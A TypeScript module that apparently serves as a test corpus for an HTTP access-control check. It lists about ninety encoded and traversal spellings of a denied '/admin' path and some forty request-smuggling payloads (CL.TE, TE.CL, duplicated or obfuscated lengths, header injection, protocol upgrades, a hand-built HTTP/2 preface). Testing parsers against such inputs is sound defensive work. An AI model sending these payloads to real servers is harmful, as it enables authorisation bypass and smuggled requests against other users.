/** Requests, byte for byte, by which a client may try to be read as asking for something else than it is judged by. */

/** A request target, or the way to hide a request in another. */
export interface Attempt {
  readonly name: string
  /** Everything that the client sends on one connection. */
  readonly bytes: string
}

/** Spellings of `/admin` and of what lies below, as far as any server is known to take them for it, and a few more. */
const TARGETS: readonly string[] = [
  '/admin',
  '/admin/',
  '/admin/secret',
  '/admin?x=1',
  '/admin#x',
  '/admin%23',
  '/admin%3f',
  '/admin%00',
  '/admin%00.html',
  '/%61dmin',
  '/%61%64%6d%69%6e',
  '/%61%64%6D%69%6E',
  '/admi%6e',
  '/admi%6E/secret',
  '/%2561dmin',
  '/%25%36%31dmin',
  '/%u0061dmin',
  '/adm%c4%b1n',
  '/admin%2fsecret',
  '/admin%2Fsecret',
  '/admin%5csecret',
  '/admin\\secret',
  '\\admin',
  '/\\admin',
  '//admin',
  '///admin',
  '/./admin',
  '/.//admin',
  '/x/../admin',
  '/x//../admin',
  '/x/..//admin',
  '/x/y/../../admin',
  '/x/%2e%2e/admin',
  '/x/%2E%2E/admin',
  '/x/.%2e/admin',
  '/x/%2e./admin',
  '/x/..%2fadmin',
  '/x/..%2Fadmin',
  '/x/..%5cadmin',
  '/x/..\\admin',
  '/x/..;/admin',
  '/x/..;a=b/admin',
  '/;/admin',
  '/;a=b/admin',
  '/admin;',
  '/admin;a=b',
  '/admin;/secret',
  '/admin;a=b/secret',
  '/admin%3ba=b',
  '/admin/.',
  '/admin/./secret',
  '/admin/..;/admin/secret',
  '/admin/x/../secret',
  '/admin/%2e/secret',
  '/%2e/admin',
  '/%2fadmin',
  '/%2f/admin',
  '/x%2f..%2fadmin',
  '/%c0%afadmin',
  '/x/%c0%ae%c0%ae/admin',
  '/x/%e0%80%ae%e0%80%ae/admin',
  '/x/%252e%252e/admin',
  '/x/%252e%252e%252fadmin',
  '/admin%09',
  '/admin%0a',
  '/admin%20',
  '/admin%0d%0aX: y',
  '/.admin/../admin',
  '/.../admin',
  '/x/.../../../admin',
  'admin',
  './admin',
  '../admin',
  '*/admin',
  '?/admin',
  '#/admin',
  'http://catalog.shop/admin',
  'HTTP://CATALOG.SHOP/admin',
  'http://catalog.shop//admin',
  'http://catalog.shop/x/../admin',
  'http://catalog.shop/%61dmin',
  'http://catalog.shop:80/admin',
  'http://user@catalog.shop/admin',
  'http://evil.example/admin',
  'http:///admin',
  'http:/admin',
  'http:admin',
  'https://catalog.shop/admin',
  'file:///admin',
  'h2c://catalog.shop/admin',
  '//catalog.shop/admin',
  '///catalog.shop/admin',
  'catalog.shop:80/admin',
]

const HEAD = 'Host: catalog.shop\r\nConnection: close\r\n'

/** A whole request for what is denied. */
const HIDDEN = 'GET /admin HTTP/1.1\r\nHost: catalog.shop\r\nConnection: close\r\n\r\n'

const get = (target: string, headers = HEAD): string => `GET ${target} HTTP/1.1\r\n${headers}\r\n`

const post = (headers: string, body: string): string =>
  `POST /public HTTP/1.1\r\nHost: catalog.shop\r\n${headers}\r\n${body}`

const chunkedHidden = `0\r\n\r\n${HIDDEN}`

/** A request that is permitted, in which another is hidden that is not. */
const SMUGGLED: Readonly<Record<string, string>> = {
  'CL.TE': post(`Content-Length: ${chunkedHidden.length}\r\nTransfer-Encoding: chunked\r\n`, chunkedHidden),
  'TE.CL': post(
    'Transfer-Encoding: chunked\r\nContent-Length: 4\r\n',
    `${HIDDEN.length.toString(16)}\r\n${HIDDEN}\r\n0\r\n\r\n`,
  ),
  'two lengths': post(`Content-Length: 0\r\nContent-Length: ${HIDDEN.length}\r\n`, HIDDEN),
  'a list of lengths': post(`Content-Length: 0, ${HIDDEN.length}\r\n`, HIDDEN),
  'a length with a sign': post(`Content-Length: +0\r\n`, HIDDEN),
  'a length in hexadecimal': post(`Content-Length: 0x0\r\n`, HIDDEN),
  'TE in other words': post(
    `Content-Length: ${chunkedHidden.length}\r\nTransfer-Encoding: xchunked\r\n`,
    chunkedHidden,
  ),
  'TE in a list': post('Transfer-Encoding: chunked, identity\r\n', chunkedHidden),
  'TE twice': post('Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n', chunkedHidden),
  'TE with a tab': post('Transfer-Encoding:\tchunked\r\nContent-Length: 0\r\n', chunkedHidden),
  'TE with a vertical tab': post('Transfer-Encoding: \vchunked\r\n', chunkedHidden),
  'TE behind a space': post(
    `Transfer-Encoding : chunked\r\nContent-Length: ${chunkedHidden.length}\r\n`,
    chunkedHidden,
  ),
  'TE folded': post(
    `Transfer-Encoding:\r\n chunked\r\nContent-Length: ${chunkedHidden.length}\r\n`,
    chunkedHidden,
  ),
  'TE behind a bare line feed': post(
    `X: y\nTransfer-Encoding: chunked\r\nContent-Length: 0\r\n`,
    chunkedHidden,
  ),
  'TE in HTTP/1.0': `POST /public HTTP/1.0\r\nHost: catalog.shop\r\nTransfer-Encoding: chunked\r\n\r\n${chunkedHidden}`,
  'TE named by Connection': post(
    `Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n`,
    chunkedHidden,
  ),
  'a length named by Connection': post(
    `Connection: Content-Length\r\nContent-Length: ${HIDDEN.length}\r\n`,
    HIDDEN,
  ),
  'a chunk extension': post('Transfer-Encoding: chunked\r\n', `0;\n\r\n${HIDDEN}`),
  'a chunk size with a sign': post('Transfer-Encoding: chunked\r\n', `+0\r\n\r\n${HIDDEN}`),
  'chunks ended by bare line feeds': post('Transfer-Encoding: chunked\r\n', `0\n\n${HIDDEN}`),
  'a chunk size too large': post('Transfer-Encoding: chunked\r\n', `10000000000000000\r\n\r\n${HIDDEN}`),
  'a trailer with a length': post(
    'Transfer-Encoding: chunked\r\n',
    `0\r\nContent-Length: 5\r\n\r\n${HIDDEN}`,
  ),
  'a GET with a body': `GET /public HTTP/1.1\r\nHost: catalog.shop\r\nContent-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`,
  'a HEAD with a body': `HEAD /public HTTP/1.1\r\nHost: catalog.shop\r\nContent-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`,
  pipelined: `${get('/public', 'Host: catalog.shop\r\n')}${HIDDEN}`,
  'obs-fold': get('/public', `${HEAD}X-A: b\r\n GET /admin HTTP/1.1\r\n`),
  'a header with a bare carriage return': get('/public', `${HEAD}X-A: b\rGET /admin HTTP/1.1\r\n`),
  'a header with a zero': get('/public', `${HEAD}X-A: b\0c\r\n`),
  'a header without a colon': get('/public', `${HEAD}GET /admin HTTP/1.1\r\n`),
  'two hosts': get('/public', `${HEAD}Host: other.shop\r\n`),
  'a target in two words': `GET /public /admin HTTP/1.1\r\n${HEAD}\r\n`,
  'a version of its own': `GET /admin HTTP/1.2\r\n${HEAD}\r\n`,
  'HTTP/0.9': 'GET /admin\r\n',
  'HTTP/1.0': `GET /admin HTTP/1.0\r\n${HEAD}\r\n`,
  'a method in lower case': `get /admin HTTP/1.1\r\n${HEAD}\r\n`,
  'blank lines before': `\r\n\r\n${HIDDEN}`,
  'a tab for a space': `GET\t/admin HTTP/1.1\r\n${HEAD}\r\n`,
  'X-Original-URL': get('/public', `${HEAD}X-Original-URL: /admin\r\nX-Rewrite-URL: /admin\r\n`),
  CONNECT: `CONNECT catalog.shop:80 HTTP/1.1\r\nHost: catalog.shop\r\n\r\n${HIDDEN}`,
  'Upgrade: h2c':
    get(
      '/public',
      'Host: catalog.shop\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n',
    ) + HIDDEN,
  'Upgrade: websocket':
    get(
      '/public',
      'Host: catalog.shop\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n',
    ) + HIDDEN,
  'Expect: 100-continue': post(`Expect: 100-continue\r\nContent-Length: ${HIDDEN.length}\r\n`, HIDDEN),
  'the HTTP/2 preface': `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${h2Request(':path', '/admin')}`,
  'pseudo-headers in HTTP/1.1': get('/public', `${HEAD}:path: /admin\r\n`),
}

/** The beginning of an HTTP/2 connection with one request, in bytes of Latin-1: SETTINGS, then HEADERS with literals (RFC 7541 §6.2.2). */
function h2Request(name: string, value: string): string {
  const literal = (header: string, text: string): string =>
    `\x00${String.fromCharCode(header.length)}${header}${String.fromCharCode(text.length)}${text}`
  const block =
    literal(':method', 'GET') +
    literal(':scheme', 'http') +
    literal(':authority', 'catalog.shop') +
    literal(name, value)
  return `\0\0\0\x04\0\0\0\0\0\0\0${String.fromCharCode(block.length)}\x01\x05\0\0\0\x01${block}`
}

/** Every attempt. */
export const ATTEMPTS: readonly Attempt[] = [
  ...TARGETS.map((target) => ({ name: target, bytes: get(target) })),
  ...Object.entries(SMUGGLED).map(([name, bytes]) => ({ name, bytes })),
]
